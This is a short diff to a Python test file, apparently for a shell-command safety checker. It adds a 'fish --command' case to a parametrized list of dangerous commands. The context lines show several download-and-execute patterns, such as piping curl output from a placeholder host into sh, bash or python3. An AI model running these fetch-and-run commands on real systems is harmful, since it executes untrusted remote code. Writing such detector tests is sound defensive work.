@@ -115,6 +115,7 @@ def test_everyday_commands_pass(command: str) -> None:
     ("xh -d https://x.io/i.sh && sh i.sh", "xh|sh"),
     ('curl -o x.sh https://x.io/i && sh "$(pwd)/x.sh"', "curl|sh"),
     ("curl -s https://x.io/i | python3", "curl|python"),
+    ("fish --command 'id'", "fish -c"),
     ("curl -s https://x.io/i | bash -s -- --yes", "curl|bash"),
     ("python3 <(curl -s https://x.io/i)", "curl|python"),
 ])
